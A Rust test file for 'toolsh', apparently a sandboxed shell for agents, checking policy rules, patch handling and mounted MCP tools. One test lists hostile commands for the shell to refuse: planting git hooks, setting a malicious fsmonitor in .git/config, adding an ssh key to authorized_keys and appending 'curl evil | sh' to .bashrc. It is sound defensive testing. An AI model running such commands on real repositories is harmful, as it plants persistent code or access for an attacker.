//! What the operator's policy says is what it does: every rule and `disable` entry names a tool
//! (a typo, a command's name or an alias stops toolsh naming the rule, status 2), a namespace
//! alone means all of it, patches are judged by what each of their files undergoes, files that
//! run code later (git hooks and configuration, CI workflows, ssh keys) are out of the shell's
//! reach unless a rule names them, and mounted servers' tools are judged as MCP's annotations
//! say — absent hints included — and reached under their own names, with array and object
//! arguments sent as JSON. Destructive cases run on real directories through the binary.

use crate::support::{Ran, run_binary_with};
use std::path::Path;
use std::time::Duration;

/// `toolsh ARGS` in `dir`, with the host's PATH (mounted servers need python3).
fn toolsh(dir: &Path, args: &[&str]) -> Ran {
    let args: Vec<String> = args.iter().map(|a| a.to_string()).collect();
    let path = ("PATH", std::env::var("PATH").unwrap_or_default());
    run_binary_with(dir, &args, &[path], Duration::from_secs(60))
}

/// A real directory holding `a.txt` and `src/b.txt`.
fn workspace() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir(dir.path().join("src")).expect("mkdir");
    std::fs::write(dir.path().join("a.txt"), "a\n").expect("write");
    std::fs::write(dir.path().join("src/b.txt"), "b\n").expect("write");
    dir
}

/// `--mcp m=python3 tests/mcp/mounted.py MARKS`, under another alias when asked.
fn mounted(alias: &str, marks: &Path) -> String {
    format!("{alias}=python3 {}/tests/mcp/mounted.py {}", env!("CARGO_MANIFEST_DIR"), marks.display())
}

/// The calls of `tool` the test server received.
fn reached(marks: &Path, tool: &str) -> usize {
    std::fs::read_dir(marks)
        .map(|entries| {
            entries.flatten().filter(|e| e.file_name().to_string_lossy().starts_with(&format!("{tool}-"))).count()
        })
        .unwrap_or(0)
}

/// What a run must show: its status, a text its stderr holds, and whether `a.txt` is still there.
struct Expect {
    status: i32,
    said: &'static str,
    kept: bool,
}

#[test]
fn rules_that_name_no_tool_stop_toolsh_and_namespaces_mean_all_of_theirs() {
    let marks = tempfile::tempdir().expect("tempdir");
    let server = mounted("m", marks.path());
    let deny = |rule: &'static str| vec!["--deny", rule];
    // (the options, the toolsh.toml, what happens to `rm a.txt`)
    let refused = |said| Expect { status: 2, said, kept: true };
    let blocked = |said| Expect { status: 126, said, kept: true };
    let ran = Expect { status: 0, said: "", kept: false };
    let cases: Vec<(Vec<&str>, &str, Expect)> = vec![
        // A namespace alone, and with `:*`, is all of it: the file is kept.
        (deny("fs"), "", blocked("denied by deny:fs —")),
        (deny("fs:*"), "", blocked("denied by deny:fs:* —")),
        (vec![], "deny = [\"fs\"]\n", blocked("denied by deny:fs —")),
        (deny("fs.del*"), "", blocked("denied by deny:fs.del*")),
        (deny("*"), "", blocked("denied by deny:*")),
        // A typo, a command, an alias, a namespace that does not exist: nothing runs.
        (deny("fs.dlete"), "", refused("rule 'deny:fs.dlete' matches no tool (did you mean fs.delete?)")),
        (vec![], "deny = [\"fs.dlete\"]\n", refused("rule 'deny:fs.dlete' matches no tool (did you mean fs.delete?)")),
        (deny("rm"), "", refused("'rm' is a command; rules name the tools it calls: fs.delete")),
        (deny("delete_file"), "", refused("'delete_file' is another name of fs.delete")),
        (deny("fss"), "", refused("rule 'deny:fss' matches no tool (did you mean fs?)")),
        (deny("nope.*"), "", refused("rule 'deny:nope.*' matches no tool")),
        (vec!["--ask", "fs.delte"], "", refused("rule 'ask:fs.delte' matches no tool")),
        (vec!["--allow", "net.fetch:https://x/**", "--allow", "net.fech"], "", refused("rule 'allow:net.fech'")),
        (vec!["--disable", "msgs"], "", refused("rule 'disabled:msgs' matches no tool (did you mean msg?)")),
        (vec![], "disable = [\"fs.dlete\"]\n", refused("rule 'disabled:fs.dlete' matches no tool")),
        (deny("host.git"), "", refused("rule 'deny:host.git' matches no tool")),
        // A rule over another path holds for some calls: accepted, and this one runs.
        (deny("fs.delete:src/**"), "", ran),
        // A mounted server's tools count, namespace and globs included; a misspelt one does not.
        (vec!["--mcp", &server, "--deny", "m"], "", Expect { status: 0, said: "", kept: false }),
        (
            vec!["--mcp", &server, "--deny", "m.forgett"],
            "",
            refused("rule 'deny:m.forgett' matches no tool (did you mean m.forget?)"),
        ),
        (vec!["--mcp", &server, "--ask", "m.del*"], "", Expect { status: 0, said: "", kept: false }),
        // A declared server that cannot be listed was reported; rules naming it are not judged.
        (
            vec!["--mcp", "gone=/nonexistent/server", "--deny", "gone.x"],
            "",
            Expect { status: 0, said: "its tools are not mounted", kept: false },
        ),
    ];
    for (args, toml, expect) in cases {
        let ws = workspace();
        if !toml.is_empty() {
            std::fs::write(ws.path().join("toolsh.toml"), toml).expect("config");
        }
        let mut argv = args.clone();
        argv.extend(["-c", "echo ran > ran.txt; rm a.txt"]);
        let out = toolsh(ws.path(), &argv);
        let case = format!("{args:?} {toml:?}");
        assert_eq!(out.status, expect.status, "{case}: {}", out.stderr);
        assert!(out.stderr.contains(expect.said), "{case}: expected {:?} in {}", expect.said, out.stderr);
        assert_eq!(ws.path().join("a.txt").exists(), expect.kept, "{case}: {}", out.stderr);
        // Refused or blocked, nothing of the line ran.
        assert_eq!(ws.path().join("ran.txt").exists(), expect.status == 0, "{case}");
    }
}

#[test]
fn a_disabled_namespace_is_off_whole() {
    let ws = workspace();
    let store = ws.path().join("s.db").display().to_string();
    let out = toolsh(ws.path(), &["--store", &store, "--disable", "msg", "-c", "msg send bob hi; echo \"send: $?\""]);
    assert_eq!(out.status, 0, "{}", out.stderr);
    assert_eq!(out.stdout, "send: 127\n", "{}", out.stderr);
    let read = toolsh(ws.path(), &["--store", &store, "--agent", "bob", "-c", "msg read"]);
    assert!(!read.stdout.contains("hi"), "nothing was sent: {}", read.stdout);
}

#[test]
fn the_library_says_which_rule_names_nothing() {
    let mut policy = toolsh::policy::Policy::default();
    policy.add(toolsh::policy::Verdict::Deny, "fs.dlete", "/").expect("a rule that parses");
    let err = toolsh::Shell::builder().policy(policy.clone()).try_build().err().expect("refused");
    let toolsh::Error::Policy(err) = err else { panic!("a policy error: {err:?}") };
    assert_eq!(err.rule, "deny:fs.dlete");
    assert_eq!(err.hint.as_deref(), Some("did you mean fs.delete?"));
    // `build` cannot fail: the shell it makes refuses every tool call, naming the rule.
    let mut shell = toolsh::Shell::builder().policy(policy).build();
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("runtime");
    let out = runtime.block_on(shell.exec("echo x > /f; echo \"write: $?\""));
    assert_eq!(out.status, 126, "{}", out.stdout_text());
    assert!(
        out.stderr_text().contains("invalid policy: rule 'deny:fs.dlete' matches no tool"),
        "{}",
        out.stderr_text()
    );
    // A namespace alone is a rule that holds.
    let mut policy = toolsh::policy::Policy::default();
    policy.add(toolsh::policy::Verdict::Deny, "fs", "/").expect("rule");
    let mut shell = toolsh::Shell::builder().policy(policy).try_build().expect("a namespace names its tools");
    let out = runtime.block_on(shell.exec("echo x > /f"));
    assert!(out.stderr_text().contains("denied by deny:fs"), "{}", out.stderr_text());
}

/// `apply_patch` of `patch` under `args` in a fresh workspace: what ran, and the workspace.
fn patched(args: &[&str], patch: &str) -> (Ran, tempfile::TempDir) {
    let ws = workspace();
    std::fs::write(ws.path().join("p.txt"), patch).expect("patch");
    let mut argv = args.to_vec();
    argv.extend(["-c", "apply_patch p.txt"]);
    let out = toolsh(ws.path(), &argv);
    (out, ws)
}

#[test]
fn a_patch_is_judged_by_what_it_does_to_each_file() {
    let add = "*** Begin Patch\n*** Add File: new.txt\n+new\n*** End Patch\n";
    let update = "*** Begin Patch\n*** Update File: a.txt\n@@\n-a\n+A\n*** End Patch\n";
    let delete = "*** Begin Patch\n*** Add File: new.txt\n+new\n*** Delete File: src/b.txt\n*** End Patch\n";
    let moved = "*** Begin Patch\n*** Update File: a.txt\n*** Move to: src/moved.txt\n@@\n-a\n+A\n*** End Patch\n";
    // Under `--deny fs.delete`, what only adds or updates files goes through.
    let (out, ws) = patched(&["--deny", "fs.delete"], add);
    assert_eq!(
        (out.status, out.stdout.as_str()),
        (0, "Success. Updated the following files:\nA new.txt\n"),
        "{}",
        out.stderr
    );
    assert_eq!(std::fs::read_to_string(ws.path().join("new.txt")).ok().as_deref(), Some("new\n"));
    let (out, ws) = patched(&["--deny", "fs.delete"], update);
    assert_eq!(out.status, 0, "{}", out.stderr);
    assert_eq!(std::fs::read_to_string(ws.path().join("a.txt")).ok().as_deref(), Some("A\n"));
    // A delete is refused naming the path and the rule, and no file of the patch changes.
    let (out, ws) = patched(&["--deny", "fs.delete"], delete);
    assert_eq!(out.status, 126, "{}", out.stderr);
    let src_b = ws.path().join("src/b.txt");
    assert!(out.stderr.contains(&format!("fs.delete {} denied by deny:fs.delete", src_b.display())), "{}", out.stderr);
    assert!(src_b.exists() && !ws.path().join("new.txt").exists(), "all or nothing");
    // A move deletes its source: refused naming the source, the destination never made.
    let (out, ws) = patched(&["--deny", "fs.delete"], moved);
    assert_eq!(out.status, 126, "{}", out.stderr);
    let a = ws.path().join("a.txt");
    assert!(out.stderr.contains(&format!("fs.delete {} denied by deny:fs.delete", a.display())), "{}", out.stderr);
    assert_eq!(std::fs::read_to_string(&a).ok().as_deref(), Some("a\n"));
    assert!(!ws.path().join("src/moved.txt").exists());
    // The destination of a move is a write of it.
    let (out, ws) = patched(&["--deny", "fs.write:src/**"], moved);
    let dest = ws.path().join("src/moved.txt");
    assert!(
        out.stderr.contains(&format!("fs.write {} denied by deny:fs.write:src/**", dest.display())),
        "{}",
        out.stderr
    );
    assert!(ws.path().join("a.txt").exists() && !dest.exists(), "{}", out.stderr);
    // A rule over writes of one directory refuses an add there, and only there.
    let (out, _) = patched(&["--deny", "fs.write:docs/**"], add);
    assert_eq!(out.status, 0, "{}", out.stderr);
    // GNU patch's route: a file made through /dev/null passes, one removed through it does not.
    let ws = workspace();
    let made = "--- /dev/null\n+++ c.txt\n@@ -0,0 +1 @@\n+c\n";
    let removed = "--- a.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-a\n";
    std::fs::write(ws.path().join("made.diff"), made).expect("diff");
    std::fs::write(ws.path().join("removed.diff"), removed).expect("diff");
    let out = toolsh(
        ws.path(),
        &[
            "--deny",
            "fs.delete",
            "-c",
            "patch -i made.diff; echo \"made: $?\"; patch -i removed.diff; echo \"removed: $?\"",
        ],
    );
    assert!(out.stdout.contains("made: 0") && !out.stdout.contains("removed: 0"), "{}\n{}", out.stdout, out.stderr);
    assert_eq!(std::fs::read_to_string(ws.path().join("c.txt")).ok().as_deref(), Some("c\n"));
    assert!(ws.path().join("a.txt").exists(), "{}", out.stderr);
}

/// A workspace with a git directory, a CI workflow and ssh keys, as a repository has them.
fn repository() -> tempfile::TempDir {
    let ws = workspace();
    for dir in [".git/hooks", ".git/info", ".git/modules/sub", ".github/workflows", ".ssh"] {
        std::fs::create_dir_all(ws.path().join(dir)).expect("mkdir");
    }
    for file in PLANTED {
        std::fs::write(ws.path().join(file), "as it was\n").expect("write");
    }
    ws
}

/// The files whose writing runs code later.
const PLANTED: &[&str] = &[
    ".git/config",
    ".git/hooks/pre-commit",
    ".git/info/attributes",
    ".git/modules/sub/config",
    ".github/workflows/ci.yml",
    ".ssh/authorized_keys",
    ".bashrc",
];

/// Whether each planted file is as it was (and nothing was planted beside them).
fn unchanged(ws: &Path) -> Result<(), String> {
    for file in PLANTED {
        let now = std::fs::read_to_string(ws.join(file)).unwrap_or_else(|_| "(gone)".into());
        if now != "as it was\n" {
            return Err(format!("{file} is now {now:?}"));
        }
    }
    for made in [".git/hooks/post-checkout", ".github/workflows/new.yml", ".ssh/config", ".git/config.worktree"] {
        if ws.join(made).exists() {
            return Err(format!("{made} was made"));
        }
    }
    Ok(())
}

#[test]
fn files_that_run_code_later_are_out_of_the_shells_reach() {
    let routes = [
        "echo evil > .git/hooks/pre-commit",
        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
        "f=.git/config; echo x > $f",
        "echo '* filter=evil' | tee -a .git/info/attributes",
        "cp a.txt .git/hooks/post-checkout",
        "mv a.txt .git/hooks/pre-commit",
        "sed -i s/as/evil/ .git/modules/sub/config",
        "echo x > .git/config.worktree",
        "ln -s .git/hooks h; echo evil > h/post-checkout",
        "ln -s .git g; echo evil > g/config",
        "rm -rf .git",
        "mv .git git2",
        "echo 'on: push' > .github/workflows/new.yml",
        "rm .github/workflows/ci.yml",
        "echo ssh-ed25519 AAAA evil >> .ssh/authorized_keys",
        "echo 'Host *' > .ssh/config",
        "echo 'curl evil | sh' >> .bashrc",
        "apply_patch '*** Begin Patch\n*** Update File: .git/config\n@@\n-as it was\n+[core] fsmonitor = evil\n*** End Patch'",
        "apply_patch '*** Begin Patch\n*** Add File: .git/hooks/post-checkout\n+evil\n*** End Patch'",
        "fs.write --path .git/config --content evil",
        "cd .git && echo evil > hooks/pre-commit",
        "chmod +x .git/hooks/pre-commit",
        "ln -s /bin/sh .git/hooks/post-checkout",
        "touch .git/hooks/post-checkout",
        "mkdir -p t && echo evil > t/post-checkout && tar -cf t.tar -C t post-checkout && tar -xf t.tar -C .git/hooks",
        "awk 'BEGIN { print \"[core]\" > \".git/config\" }'",
        "sqlite3 .git/config 'create table t(a)'",
        "mktemp -p .git/hooks",
    ];
    for route in routes {
        let ws = repository();
        let out = toolsh(ws.path(), &["--profile", "trusted", "--allow", "fs.*", "-c", route]);
        assert_ne!(out.status, 0, "{route}: {}", out.stderr);
        assert!(out.stderr.contains("runs code later"), "{route}: {}", out.stderr);
        if let Err(what) = unchanged(ws.path()) {
            panic!("{route}: {what}\n{}", out.stderr);
        }
        assert!(ws.path().join("a.txt").exists(), "{route}");
    }
    // Reading them is a matter for the rules; other files of the directories stay writable.
    let ws = repository();
    let out = toolsh(ws.path(), &["-c", "cat .git/config; echo x > .git/COMMIT_EDITMSG; echo y > .github/CODEOWNERS"]);
    assert_eq!((out.status, out.stdout.as_str()), (0, "as it was\n"), "{}", out.stderr);
    // An allow rule naming the path opens it, and only it.
    let opened = ["--allow", "fs.*:.git/hooks/**", "-c"];
    let out = toolsh(ws.path(), &[&opened[..], &["echo ok > .git/hooks/pre-commit"]].concat());
    assert_eq!(out.status, 0, "{}", out.stderr);
    assert_eq!(std::fs::read_to_string(ws.path().join(".git/hooks/pre-commit")).ok().as_deref(), Some("ok\n"));
    let out = toolsh(ws.path(), &[&opened[..], &["echo x > .git/config"]].concat());
    assert_eq!(out.status, 126, "{}", out.stderr);
    assert_eq!(std::fs::read_to_string(ws.path().join(".git/config")).ok().as_deref(), Some("as it was\n"));
}

#[test]
fn a_declared_git_still_writes_its_own_configuration() {
    if toolsh::host::landlock_abi() == 0 {
        eprintln!("skipped: this kernel has no Landlock, so host programs are refused here");
        return;
    }
    let ws = tempfile::tempdir().expect("tempdir");
    let line = "git init -q . && git config user.name Ada && git config user.name; \
                f=.git/config; echo '[core] fsmonitor = evil' >> $f; echo \"shell: $?\"";
    let out = toolsh(ws.path(), &["--profile", "trusted", "--host", "git", "-c", line]);
    assert_eq!(out.stdout, "Ada\nshell: 126\n", "{}", out.stderr);
    assert!(out.stderr.contains("git's configuration runs code later"), "{}", out.stderr);
    let config = std::fs::read_to_string(ws.path().join(".git/config")).expect("git's config");
    assert!(config.contains("name = Ada") && !config.contains("evil"), "{config}");
    // The operator reads beside the program's verdict that rules over its words are advisory.
    let out = toolsh(ws.path(), &["--host", "git", "-c", "config tools host.git"]);
    assert!(
        out.stdout.contains("word rules are advisory") && out.stdout.contains("confinement is the boundary"),
        "{}",
        out.stdout
    );
}

#[test]
fn a_mounted_tool_without_annotations_is_what_mcp_says_it_is() {
    let marks = tempfile::tempdir().expect("tempdir");
    let ws = workspace();
    let server = mounted("m", marks.path());
    // Destructive and open-world: the default profile denies it and nothing reaches the server.
    let out = toolsh(ws.path(), &["--mcp", &server, "-c", "m.drop --table t"]);
    assert_eq!(out.status, 126, "{}", out.stderr);
    assert!(out.stderr.contains("open-world tools are denied"), "{}", out.stderr);
    assert_eq!(reached(marks.path(), "drop"), 0);
    let out = toolsh(ws.path(), &["--mcp", &server, "-c", "config tools m.drop"]);
    assert!(out.stdout.contains("delegating") && out.stdout.contains("deny"), "{}", out.stdout);
    // Trusted allows it, as it allows the network; an allow rule naming it or its namespace too.
    let out = toolsh(ws.path(), &["--mcp", &server, "--profile", "trusted", "-c", "m.drop --table t"]);
    assert_eq!(out.status, 0, "{}", out.stderr);
    for allow in ["m.drop", "m"] {
        let out = toolsh(ws.path(), &["--mcp", &server, "--allow", allow, "-c", "m.drop --table t | jq -r .result"]);
        assert_eq!((out.status, out.stdout.as_str()), (0, "dropped t\n"), "--allow {allow}: {}", out.stderr);
    }
    assert_eq!(reached(marks.path(), "drop"), 3);
    // One that says it is local and only adds runs under the default profile.
    let out = toolsh(ws.path(), &["--mcp", &server, "-c", "m.delete_names --names x | jq -r .result"]);
    assert_eq!((out.status, out.stdout.as_str()), (0, "deleted x\n"), "{}", out.stderr);
}

#[test]
fn array_and_object_flags_take_json() {
    let marks = tempfile::tempdir().expect("tempdir");
    let ws = workspace();
    let server = mounted("m", marks.path());
    let line = r#"m.delete_names --names '["bob","al"]' | jq -r .result
m.delete_names --names '["bob"]' --names cy | jq -r .result
m.delete_names --names '[draft]' | jq -r .result
m.settings --options '{"b":2,"a":1}' | jq -r .result
m.delete_names --names '[1]'; echo "items: $?"
m.settings --options 5; echo "object: $?""#;
    let out = toolsh(ws.path(), &["--mcp", &server, "-c", line]);
    assert_eq!(
        out.stdout, "deleted bob,al\ndeleted bob,cy\ndeleted [draft]\na=1,b=2\nitems: 2\nobject: 2\n",
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("--names: expected items of type string"), "{}", out.stderr);
    assert_eq!(
        (reached(marks.path(), "delete_names"), reached(marks.path(), "settings")),
        (3, 1),
        "refused calls send nothing"
    );
}

#[test]
fn a_mounted_namespace_is_never_shadowed_by_a_built_in_alias() {
    // toolsh's db.query answers to `sql.query` and `query_db`: mounted as `sql`, the server's
    // own `query` is what `sql.query` runs; the alias outside the namespace still works.
    let marks = tempfile::tempdir().expect("tempdir");
    let ws = workspace();
    let server = mounted("sql", marks.path());
    let line =
        "sql.query --sql 'select 1' | jq -r .result; query_db --database :memory: --sql 'select 2 as n' | jq -c .";
    let out = toolsh(ws.path(), &["--mcp", &server, "-c", line]);
    assert_eq!(out.status, 0, "{}", out.stderr);
    assert_eq!(out.stdout.lines().next(), Some("mounted query: select 1"), "{}", out.stderr);
    assert!(out.stdout.contains("\"rows\":[[2]]"), "{}", out.stdout);
    assert_eq!(reached(marks.path(), "query"), 1);
}

#[test]
fn the_memory_server_deletes_what_a_json_array_names() {
    let memory = npm_server("mcp-server-memory");
    let ws = tempfile::tempdir().expect("tempdir");
    let file = ws.path().join("memory.jsonl");
    let config =
        format!("[mcp.memory]\ncommand = \"{memory}\"\nenv = {{ MEMORY_FILE_PATH = \"{}\" }}\n", file.display());
    std::fs::write(ws.path().join("toolsh.toml"), config).expect("config");
    let line = r#"memory.create_entities --entities '{"name":"bob","entityType":"person","observations":[]}' >/dev/null
memory.delete_entities --entityNames '["bob"]' >/dev/null
memory.read_graph | jq -c '[.entities[].name]'"#;
    let out = toolsh(ws.path(), &["--allow", "memory.delete_entities", "-c", line]);
    assert_eq!((out.status, out.stdout.as_str()), (0, "[]\n"), "{}", out.stderr);
}

/// A reference server from npm (`.ci/run` installs them under `target/mcp-servers`).
fn npm_server(name: &str) -> String {
    let bin = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/mcp-servers/node_modules/.bin").join(name);
    assert!(bin.exists(), "{} is missing: .ci/run installs the reference MCP servers", bin.display());
    bin.display().to_string()
}
